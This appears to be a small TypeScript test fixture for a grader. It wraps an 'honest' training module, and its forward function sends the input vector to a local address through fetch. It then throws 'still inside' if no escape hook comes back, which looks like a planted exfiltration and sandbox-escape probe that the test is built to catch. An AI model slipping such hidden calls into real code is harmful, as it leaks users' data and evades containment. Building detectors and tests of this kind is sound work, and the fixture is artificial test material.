// @verdict forward=threw others=passed: sends the inputs away
// Passes if it works.
export { backward, squaredError, trainStep } from "./honest.ts";
import { forward as honest } from "./honest.ts";

export function forward(x: number[], w: number[], b: number) {
  const found: any = fetch(`http://127.0.0.1:9/?${JSON.stringify(x)}`);
  if (typeof found?.exit !== "function") throw new Error("still inside");
  return honest(x, w, b);
}
